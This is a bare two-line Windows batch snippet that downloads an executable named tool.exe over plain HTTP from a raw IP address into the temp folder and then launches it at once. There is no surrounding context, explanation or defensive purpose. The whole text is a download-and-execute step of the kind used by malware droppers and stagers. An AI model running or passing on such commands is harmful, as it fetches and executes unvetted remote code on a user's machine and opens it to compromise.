curl -o %TEMP%\tool.exe http://198.51.100.7/tool.exe
start "" %TEMP%\tool.exe
